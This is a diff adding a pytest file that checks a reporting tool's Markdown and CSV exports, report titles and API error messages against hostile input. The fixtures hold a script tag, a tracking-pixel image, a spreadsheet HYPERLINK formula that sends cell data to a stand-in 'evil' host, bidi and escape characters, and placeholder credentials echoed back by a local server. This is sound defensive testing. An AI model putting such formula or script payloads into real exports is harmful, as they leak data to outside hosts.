@@ -1,0 +1,146 @@
+"""Exports, report titles and generator errors against hostile names and a hostile endpoint:
+nothing runs in a Markdown viewer or a spreadsheet, and no secret is shown or stored."""
+
+from __future__ import annotations
+
+import base64
+import csv
+import io
+import json
+import threading
+from datetime import date
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+from markdown_it import MarkdownIt
+
+from analysis.generators import ChatCompletionsGenerator, GenerationOptions
+from analysis.insights import Card
+from analysis.report import Section, section_markdown
+from analysis.suggestions import (
+    SuggestOptions,
+    export_approved,
+    review_suggestion,
+    save_suggestions,
+    suggest_for_cards,
+)
+from loaders import store
+from loaders.errors import GeneratorError
+
+KEY = "sk-live-0123456789abcdef"
+RENDERER = MarkdownIt("commonmark", {"html": True}).enable("table")
+SCRIPT = "<script>alert(1)</script>"
+PIXEL = "![px](http://host/p.png)"
+FORMULA = '=HYPERLINK("http://evil/?"&A1,"open")'
+
+
+def hostile_card() -> Card:
+    """A campaign card whose campaign and brand names carry HTML, an image and a formula."""
+    campaign = f"Summer {SCRIPT} {PIXEL}"
+    return Card(
+        "campaign_backfire",
+        f"{campaign} backfired: 40 posts, 80% negative.",
+        10.0,
+        {"campaign": campaign, "brand": f"Tide{SCRIPT}", "posts": 40, "share_negative": 0.8},
+    )
+
+
+@pytest.fixture
+def approved(settings):
+    """Two approved suggestions of the hostile card; one edited to a formula."""
+    options = SuggestOptions(formats=("social_post", "ad_headline"), variants=1, rounds=1)
+    results = suggest_for_cards([hostile_card()], None, options, [], brand=f"Tide{SCRIPT}")
+    with store.session(settings=settings) as con:
+        ids = save_suggestions(
+            con, results, date(2025, 10, 6), date(2025, 10, 12), options, "template"
+        )
+        review_suggestion(con, ids[0], status="approved", edited_text=FORMULA)
+        review_suggestion(con, ids[1], status="approved", edited_text=f"-1+1 {SCRIPT}")
+        con.execute(  # a row stored before the fix: a URL with credentials as the generator
+            "UPDATE suggestions SET generator = ? WHERE id = ?",
+            [f"m at https://me:pw@host/v1?api_key={KEY}", ids[1]],
+        )
+    return settings
+
+
+def test_markdown_export_renders_no_script_image_or_link(approved):
+    with store.session(settings=approved, read_only=True) as con:
+        markdown = export_approved(con, "markdown")
+    html = RENDERER.render(markdown)
+    assert "<script" not in html and "<img" not in html and "<a " not in html
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # shown, as text
+    assert "![px](http://host/p.png)" in html
+    assert "<li><strong>ad headline</strong>: -1+1 &lt;script&gt;" in html
+
+
+def test_csv_export_neutralises_formulas_and_hides_credentials(approved):
+    with store.session(settings=approved, read_only=True) as con:
+        table = list(csv.DictReader(io.StringIO(export_approved(con, "csv"))))
+    texts = sorted(row["text"] for row in table)
+    assert texts == sorted(["'" + FORMULA, f"'-1+1 {SCRIPT}"])
+    assert [row["brand"] for row in table] == [f"Tide{SCRIPT}"] * 2  # no prefix: not a formula
+    generators = sorted(row["generator"] for row in table)
+    assert generators == ["m at https://host/v1?api_key=••••", "template"]
+
+
+def test_report_titles_show_bidi_and_escape_sequences():
+    title = "Weekly report for Tide\u202ellew\x1b[2J: 2025-W41"
+    markdown = section_markdown(Section(title, []), top=True)
+    assert markdown == "# Weekly report for Tide&lt;U+202E&gt;llew\\\\x1b\\[2J: 2025-W41\n"
+    assert "\u202e" not in markdown and "\x1b" not in markdown
+    html = RENDERER.render(markdown)  # what a reader sees
+    assert html == "<h1>Weekly report for Tide&lt;U+202E&gt;llew\\x1b[2J: 2025-W41</h1>\n"
+
+
+# --- an endpoint that echoes what it was sent ---------------------------------------------------
+class EchoingHandler(BaseHTTPRequestHandler):
+    """Answers 401 with the request's Authorization header in the body, as some proxies do."""
+
+    seen: list[str] = []
+
+    def log_message(self, *args) -> None:
+        pass
+
+    def do_POST(self) -> None:
+        self.rfile.read(int(self.headers["Content-Length"]))
+        auth = self.headers.get("Authorization", "")
+        EchoingHandler.seen.append(auth)
+        if self.path.endswith("/plain/chat/completions"):
+            body = f"Unauthorized.\nReceived Authorization: {auth}\n".encode()
+        else:
+            body = json.dumps({"error": {"message": f"Invalid key. You sent: {auth}"}}).encode()
+        self.send_response(401)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+
+@pytest.fixture(scope="module")
+def echo_server():
+    httpd = ThreadingHTTPServer(("127.0.0.1", 0), EchoingHandler)
+    threading.Thread(target=httpd.serve_forever, daemon=True).start()
+    yield f"127.0.0.1:{httpd.server_address[1]}"
+    httpd.shutdown()
+
+
+@pytest.mark.parametrize("path", ["v1", "plain"])
+def test_a_401_echoing_the_key_gives_a_one_line_error_without_it(echo_server, path):
+    generator = ChatCompletionsGenerator(f"http://{echo_server}/{path}", "m", api_key=KEY)
+    with pytest.raises(GeneratorError) as raised:
+        generator.generate("s", "p", GenerationOptions())
+    message = str(raised.value)
+    assert EchoingHandler.seen[-1] == f"Bearer {KEY}"  # the key was sent, and echoed
+    assert KEY not in message and "0123456789" not in message and "\n" not in message
+    assert f"http://{echo_server}/{path}/chat/completions answered HTTP 401" in message
+
+
+def test_credentials_in_the_base_url_are_sent_but_never_shown(echo_server):
+    generator = ChatCompletionsGenerator(f"http://me:pa55word@{echo_server}/v1?api_key={KEY}", "m")
+    assert generator.name == f"m at http://{echo_server}/v1?api_key=••••"
+    with pytest.raises(GeneratorError) as raised:
+        generator.generate("s", "p", GenerationOptions())
+    assert EchoingHandler.seen[-1] == "Basic " + base64.b64encode(b"me:pa55word").decode()
+    message = str(raised.value)
+    assert "pa55word" not in message and KEY not in message
+    assert "bWU6cGE1NXdvcmQ" not in message  # nor the Basic token that encodes them
+    assert message.startswith(f"http://{echo_server}/v1/chat/completions?api_key=••••")
